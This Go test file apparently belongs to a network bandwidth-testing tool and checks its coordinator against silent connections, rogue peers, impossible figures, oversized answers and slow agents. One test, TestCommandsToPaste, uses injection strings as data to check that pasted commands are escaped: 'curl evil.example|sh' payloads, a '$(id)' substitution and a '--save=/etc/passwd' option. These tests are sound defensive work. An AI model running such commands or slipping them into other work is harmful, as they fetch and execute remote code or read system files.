package rankzero

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/gobw/gobw/internal/control/frame"
	"github.com/gobw/gobw/internal/fabric"
	"github.com/gobw/gobw/internal/fabric/agent"
	"github.com/gobw/gobw/internal/plan"
	"github.com/gobw/gobw/internal/testrun"
	"github.com/gobw/gobw/report/matrix"
	"github.com/gobw/gobw/report/stats"
)

// TestSilentConnectionsHoldNobody: connections that say nothing, however many, neither
// keep a run from starting nor from ending.
func TestSilentConnectionsHoldNobody(t *testing.T) {
	for _, many := range []int{1, 3000} {
		t.Run(fmt.Sprint(many), func(t *testing.T) {
			o, err := run{
				ranks: 4, late: map[int]time.Duration{0: time.Second, 1: time.Second, 2: time.Second, 3: time.Second},
				during: func(n *network) {
					for range many {
						if _, err := n.dial(context.Background(), 200); err != nil {
							t.Error(err)
						}
					}
					time.Sleep(3 * time.Second)
					for range many { // at the end of the run, too
						if conn, err := n.dial(context.Background(), 200); err == nil {
							defer func() { _ = conn.Close() }()
						}
					}
					time.Sleep(time.Minute)
				},
			}.run(t)
			if err != nil || o.Fabric.Took() != 4 || len(findings(o.Fabric)) > 0 {
				t.Errorf("%v: %v", err, o.Checks)
			}
			if took := o.Finished.Sub(o.Started); took > 30*time.Second {
				t.Errorf("the run took %v", took)
			}
		})
	}
}

// TestAnotherRunsRankZero: what a rank 0 says that has not proven itself is no answer: two runs
// on a host look at each other's ports.
func TestAnotherRunsRankZero(t *testing.T) {
	o, err := run{ranks: 3, late: map[int]time.Duration{1: time.Second}, agent: func(rank int, c *agent.Config) bool {
		if rank == 1 {
			c.Rendezvous = []string{"another:1", "node0:1"}
			dial := c.Dial
			c.Dial = func(ctx context.Context, place string) (net.Conn, error) {
				if place == "node0:1" {
					return dial(ctx, place)
				}
				up, down := newStream(), newStream()
				theirs, ours := &memoryConn{in: up, out: down, local: netAddr(1), remote: netAddr(2)}, &memoryConn{
					in: down, out: up, local: netAddr(2), remote: netAddr(1),
				}
				s := frame.New(theirs, frame.Options{Bears: time.Second, Token: fabric.Key("another job", "secret")})
				go func() {
					_, err := s.Meet(ctx, frame.Hello{}, time.Second)
					s.End(frame.Message{Kind: frame.KindError, Error: fmt.Sprint("refused: ", err)})
				}()
				return ours, nil
			}
		}
		return true
	}}.run(t)
	if err != nil || o.agents[1] != nil || o.Fabric.Took() != 3 {
		t.Errorf("%v, agent %v: %v", err, o.agents[1], o.Checks)
	}
}

func netAddr(n byte) net.Addr {
	return net.TCPAddrFromAddrPort(netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 0, 1, n}), 1))
}

// TestImpossibleFigures: what an agent reports is held against it and not against the
// others, and makes no number that is none.
func TestImpossibleFigures(t *testing.T) {
	for name, bits := range map[string]float64{"too large for a float32": 1e39, "negative": -1, "none": math.MaxFloat64} {
		t.Run(name, func(t *testing.T) {
			o, err := run{ranks: 5, worker: func(rank int) *fake {
				f := &fake{rank: rank}
				if rank == 3 {
					f.bits = bits
				}
				return f
			}}.run(t)
			if err != nil {
				t.Fatal(err)
			}
			if h := o.host(3); h.Cause != matrix.Lost || !strings.Contains(h.Reason, "impossible figures") ||
				len(findings(o.Fabric)) > 0 {
				t.Errorf("%+v, findings %q", h, findings(o.Fabric))
			}
			if _, err := json.Marshal(o.Document); err != nil {
				t.Error(err)
			}
		})
	}
}

// TestLongAnswers: what an agent was asked for bounds its answer, which is refused before its bytes are read.
func TestLongAnswers(t *testing.T) {
	o, err := run{ranks: 4, worker: func(rank int) *fake {
		f := &fake{rank: rank}
		if rank == 3 {
			f.rail.Device = strings.Repeat("x", 1<<20)
		}
		return f
	}}.run(t)
	if err != nil {
		t.Fatal(err)
	}
	if h := o.host(3); !strings.Contains(h.Reason, "the limit is 8192") || o.Fabric.Took() != 3 {
		t.Errorf("%+v", h)
	}
}

// TestARunEnds: agents that give each answer at the last moment do not stretch a run beyond twice its time and
// a minute. A few of them are left out.
func TestARunEnds(t *testing.T) {
	for _, slow := range []int{1, 3, 20} {
		o, err := run{ranks: 32, cfg: func(c *Config) { long(c); c.Time = 40 * time.Second }, worker: func(rank int) *fake {
			f := &fake{rank: rank}
			if rank < slow {
				f.stall = fabric.BeyondRun + grace - time.Second
			}
			return f
		}}.run(t)
		if took := o.Finished.Sub(o.Started); took > 4*time.Minute {
			t.Errorf("%d slow ranks: the run took %v", slow, took)
		}
		if slow > 16 {
			if err == nil || !strings.Contains(err.Error(), "no time left after round") || o.Complete ||
				o.Fabric.Judged.Tested == 0 {
				t.Errorf("%d slow ranks: %v: %v", slow, err, o.Checks)
			}
			continue
		}
		for rank := range 32 {
			h := o.host(rank)
			if late := strings.Contains(h.Reason, "after those of the others"); err != nil || late != (rank < slow) {
				t.Errorf("%d slow ranks, %v: rank %d is %q", slow, err, rank, h.Reason)
			}
		}
	}
}

// TestHelloIsBounded: an agent may say so much of its host, and no more.
func TestHelloIsBounded(t *testing.T) {
	o, err := run{ranks: 4, agent: func(rank int, c *agent.Config) bool {
		if rank == 3 {
			c.Hello.Leaf = strings.Repeat("x", frame.Short)
		}
		return true
	}}.run(t)
	if err != nil {
		t.Fatal(err)
	}
	if h := o.host(3); h.Word != stats.Fail || o.Fabric.Took() != 3 {
		t.Errorf("%+v", h)
	}
}

// TestCommandsToPaste: names that agents tell of their hosts and devices do not come into a command as they are.
func TestCommandsToPaste(t *testing.T) {
	for name, tt := range map[string]struct{ host, device, want string }{
		"good": {
			"node3", "roce0@eth1",
			"Type at node0:\n  gobw serve\nthen at node3:\n  gobw write node0 -s 65536 -D 5 -d roce0@eth1",
		},
		"a device":  {"node3", "x;curl evil.example|sh;#", "-d 'x;curl evil.example|sh;#'"},
		"quotes":    {"node3", "x'$(id)'", `-d 'x'\''$(id)'\'''`},
		"a host":    {"x;curl evil.example|sh", "roce0", ""},
		"an option": {"--save=/etc/passwd", "roce0", ""},
	} {
		t.Run(name, func(t *testing.T) {
			c := &coordinator{
				cfg: Config{Plan: plan.Spec{Operation: plan.Write, Sizes: []int{65536}}}, members: make([]*host, 2),
			}
			m := &matrix.Matrix{Rails: []string{tt.device}, Hosts: []matrix.Host{{Name: tt.host}, {Name: "node0"}}}
			f := matrix.Finding{Subject: matrix.WholeOf, Verdict: stats.Failure(matrix.Slow, "", "")}
			m.Findings = []matrix.Finding{f}
			c.explain(m, &m.Findings[0])
			if got := m.Findings[0].Settle; !strings.Contains(got, tt.want) || tt.want == "" && got != "" {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

// FuzzFigures lets an agent report any figures: they make a cell that can be written down, or none.
func FuzzFigures(f *testing.F) {
	type figures struct {
		Bits, Low, Middle, High float64
		Corrupt                 bool
	}
	for _, seed := range []figures{
		{1e9, 1, 2, 3, false}, {1e39, 1, 2, 3, false}, {math.Inf(1), math.NaN(), -1, 1e300, true},
	} {
		b, err := binary.Append(nil, binary.BigEndian, seed)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
		f.Add(append(b, 'x'))
	}
	testrun.Fuzz(f, func(t *testing.T, in []byte) {
		var v figures
		n, err := binary.Decode(in, binary.BigEndian, &v)
		if err != nil {
			return
		}
		for _, kind := range []plan.Kind{plan.Bandwidth, plan.Latency} {
			c := &coordinator{cfg: Config{Plan: plan.Spec{Operation: plan.Write, Kind: kind}}, reasons: map[[2]int]string{}}
			said := func(f fabric.Flow) *fabric.Answer {
				return &fabric.Answer{Rails: []fabric.Rail{{Flows: []fabric.Flow{f}}}}
			}
			good := said(fabric.Flow{Bits: 1e9, Quantiles: [5]float64{1, 1, 1, 1, 1}})
			bad := said(fabric.Flow{
				Bits: v.Bits, Quantiles: [5]float64{v.Low, v.Low, v.Middle, v.High, v.High}, Corrupt: v.Corrupt,
				Error: string(in[n:]),
			})
			one, other := &host{}, &host{}
			one.answer, one.failedIn, other.answer, other.failedIn = bad, -1, good, -1
			ends := flowEnds{initiator: end{one, 0}, target: end{other, 0}}
			x := (&round{coordinator: c, rails: []int{0}, flows: []flowEnds{ends}}).cells(0)[0]
			if v := float64(x.Value); x.State == matrix.Measured && !(v > 0 && v <= max(fabric.MostBits, fabric.MostLatency)) {
				t.Errorf("%v became %v", bad, x)
			}
		}
	})
}
